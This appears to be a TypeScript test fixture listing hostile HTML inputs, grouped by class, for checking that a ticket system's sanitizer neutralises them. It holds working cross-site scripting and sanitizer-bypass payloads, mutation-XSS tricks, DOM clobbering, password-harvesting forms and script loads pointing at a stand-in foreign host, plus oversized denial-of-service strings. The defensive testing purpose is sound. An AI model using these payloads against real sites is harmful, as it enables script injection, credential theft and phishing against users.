/** The variable that a script of a hostile text would set, for tests that show such texts in a browser. */
export const CANARY = 'hostileTextRan';

/** The host from which a hostile text would load something. */
export const FOREIGN_HOST = 'foreign.example';

const RUN = `${CANARY}=1`;
const FROM = `https://${FOREIGN_HOST}`;
const ENCODED_SCRIPT = `data:text/html;base64,${btoa(`<script>parent.${RUN}</script>`)}`;

/** Harmful texts that outsiders may write into a ticket, a few of each class. */
export const HOSTILE_HTML: Record<string, readonly string[]> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=//${FOREIGN_HOST}/x.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script/>`,
    `<script>${RUN}`,
    `<<script>${RUN};//<</script>`,
  ],
  'event handlers': [
    `<img src=x onerror="${RUN}">`,
    `<b onmouseover=${RUN} onfocus=${RUN} tabindex=1 autofocus>x</b>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<video><source onerror="${RUN}"></video>`,
    `<p onanimationstart=${RUN} style="animation:spin 1s">x</p>`,
    `<a href="https://a.example" onclick="${RUN}">x</a>`,
    `<div/onpointerenter='${RUN}'/contenteditable>x</div>`,
  ],
  'addresses that run': [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href=" &#1;java&#x09;script&colon;${RUN}">x</a>`,
    `<a href="JaVa\nScRiPt:${RUN}">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="${ENCODED_SCRIPT}">x</a>`,
    `<a href="https://a.example" href="javascript:${RUN}">x</a>`,
    `<a xlink:href="javascript:${RUN}">x</a>`,
    `<a href="blob:https://a.example/x">x</a>`,
    `<a href="//${FOREIGN_HOST}">x</a><a href="/admin">x</a><a href="\\\\${FOREIGN_HOST}">x</a>`,
  ],
  'other namespaces': [
    `<svg onload=${RUN}><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<svg><use href="${FROM}/x.svg#x"></use><image href="${FROM}/x.png"></svg>`,
  ],
  'markup that turns into other markup': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<textarea></textarea/><img src=x onerror=${RUN}></textarea>`,
    `<select><style></select><img src=x onerror=${RUN}></style>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `<a title="<b>">${'<b>'.repeat(3)}<table><a title="</table><img src=x onerror=${RUN}>">`,
  ],
  'names that clobber': [
    '<form id=body><input name=cookie></form>',
    '<a id=defaultView href="https://a.example"></a><a id=defaultView name=fetch></a>',
    '<img name=getElementById><img name=createElement data-id=7>',
    '<p id=root class="chakra-portal" data-scope="dialog" name=location>x</p>',
  ],
  style: [
    '<style>body{display:none!important}</style>',
    `<style>@import '${FROM}/x.css';</style>`,
    '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
    `<p style="background:url(${FROM}/x.png)">x</p>`,
    `<link rel=stylesheet href="${FROM}/x.css">`,
    `<table background="${FROM}/x.png" width=99999 height=99999><tr><td bgcolor=red nowrap>x</td></tr></table>`,
    '<font size=99 color=white>x</font><marquee scrollamount=99>x</marquee><center>x</center>',
    '<td colspan=99999>x</td><table><tr><td colspan=65534 rowspan=65534>x</td></tr></table>',
  ],
  forms: [
    `<form action="${FROM}"><input name=password type=password><button>Sign in</button></form>`,
    `<button form=x formaction="javascript:${RUN}">x</button><isindex action=javascript:${RUN}>`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}><option>x</select>`,
    '<label for=email>x</label><textarea autofocus>x</textarea><dialog open>x</dialog>',
  ],
  'whole pages': [
    `<meta http-equiv=refresh content="0;url=${FROM}">`,
    `<base href="${FROM}/"><a href="/x">x</a>`,
    `<html onload=${RUN}><head><title>x</title></head><body onload=${RUN} background="${FROM}/x.png">x`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
    `<object data="${ENCODED_SCRIPT}"></object><embed src="${FROM}/x.swf">`,
    `<frameset onload=${RUN}><frame src="${FROM}"></frameset>`,
    `<portal src="${FROM}"></portal><fencedframe></fencedframe>`,
  ],
  'what fetches': [
    `<img src="${FROM}/x.png" srcset="${FROM}/y.png 2x">`,
    `<picture><source srcset="${FROM}/x.png"><img alt="of a router"></picture>`,
    `<audio src="${FROM}/x.mp3" autoplay></audio><video poster="${FROM}/x.png"></video>`,
    `<track src="${FROM}/x.vtt"><input type=image src="${FROM}/x.png">`,
    `<a href="https://a.example" ping="${FROM}">x</a><link rel=prefetch href="${FROM}">`,
    `<img data-id="7/../../8" src="${FROM}/x.png"><img data-id='7" onerror="${RUN}' alt='"><script>${RUN}</script>'>`,
  ],
  templates: [
    `<template><img src=x onerror=${RUN}></template>`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<x-widget onclick=${RUN}><slot>x</slot></x-widget>`,
    `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  ],
  encodings: [
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `<img src=x o&#110;error=${RUN}><a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="java\u0000script:${RUN}">x</a><scr\u0000ipt>${RUN}</scr\u0000ipt>`,
    `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    '\uD800<b>x</b>&#xD800;&#0;&#x1b;&#9999999999;',
  ],
  'deceiving text': [
    '\u202Egnp.exe<b>\u2067x\u202B</b>',
    'pay\u200Bpal\u200D\uFEFF <b>a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308</b>',
    `<a href="https://bank.example@${FOREIGN_HOST}">https://bank.example</a>`,
    '<h1>Your session has ended</h1><h2>Please sign in again</h2>',
  ],
  'too much': [
    '<div>'.repeat(12_000),
    '<b><i>'.repeat(5_000),
    '<table><tr><td>'.repeat(2_000),
    `${'<blockquote>'.repeat(2_500)}x`,
    `<p>${'W'.repeat(20_000)}</p>`,
    '<ul><li>'.repeat(3_000),
    `<p title="${'x'.repeat(30_000)}`,
    `<a href="https://a.example/${'x'.repeat(30_000)}">x</a>`,
    '</div>'.repeat(5_000),
    '<br>'.repeat(5_000),
  ],
};
